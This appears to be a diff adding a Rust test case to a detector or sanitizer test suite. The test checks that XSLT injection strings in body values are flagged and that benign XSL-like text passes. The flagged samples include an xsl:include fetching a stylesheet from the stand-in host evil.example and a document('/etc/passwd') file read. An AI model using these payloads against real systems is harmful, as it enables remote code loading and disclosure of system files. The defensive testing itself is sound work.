@@ -1696,3 +1696,21 @@ fn payloads_split_by_tags_a_sanitizer_strips() {
         &["un<b>ion</b> members select a rep"],
     );
 }
+
+#[test]
+fn xslt_instructions_in_values() {
+    table(
+        "xxe",
+        FieldKind::BodyValue,
+        &[
+            "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
+            "<xsl:include href=\"http://evil.example/x.xsl\"/>",
+            "< xsl:copy-of select=\"document('/etc/passwd')\"/>",
+        ],
+        &[
+            "Convert the file with XSL: value of the field goes first",
+            "the xsl stylesheet is attached",
+            "<xsd:element name=\"x\"/>",
+        ],
+    );
+}
